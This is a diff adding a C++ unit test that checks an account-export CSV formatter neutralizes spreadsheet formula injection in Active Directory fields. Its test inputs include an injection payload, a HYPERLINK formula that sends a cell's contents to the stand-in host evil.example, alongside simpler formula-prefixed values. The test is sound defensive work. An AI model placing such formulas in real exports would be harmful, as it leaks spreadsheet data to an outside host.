@@ -129,6 +129,32 @@ TEST(FormatAccountsCsv, QuotesFieldsForSpreadsheets) {
                              "\"\"Front\"\"\",false,ambiguous,,t-a t-b,"));
 }
 
+// Whoever can edit an AD user controls its display name, mail and UPN; a
+// spreadsheet opening the export must show them as text, never run them.
+TEST(FormatAccountsCsv, NeutralizesSpreadsheetFormulas) {
+  adsync::v1::ListAccountsResponse r;
+  auto* a = r.add_accounts();
+  a->set_domain("DISTRICT");
+  a->set_sam_account_name("@SUM(1+1)");
+  a->set_user_principal_name("+1-555@district.org");
+  a->set_mail("-2+3@district.org");
+  a->set_display_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+  a->set_object_guid("\t=1+1");
+  a->set_person_id("\r=1+1");
+  const std::string csv = FormatAccountsCsv(r);
+  const std::string row = csv.substr(csv.find('\n') + 1);
+  EXPECT_EQ(row,
+            "DISTRICT,\"'@SUM(1+1)\",\"'+1-555@district.org\","
+            "\"'-2+3@district.org\","
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
+            "false,,\"'\r=1+1\",,\"'\t=1+1\"\n");
+  // Only the first character matters: inner signs are ordinary text.
+  a->Clear();
+  a->set_mail("a=b@c-d.org");
+  a->set_display_name("Smith-Jones");
+  EXPECT_THAT(FormatAccountsCsv(r), HasSubstr(",,a=b@c-d.org,Smith-Jones,"));
+}
+
 TEST(Ago, ReadsLikeAnOpsTool) {
   EXPECT_EQ(Ago(0, 100), "never");
   EXPECT_EQ(Ago(95, 100), "5s ago");
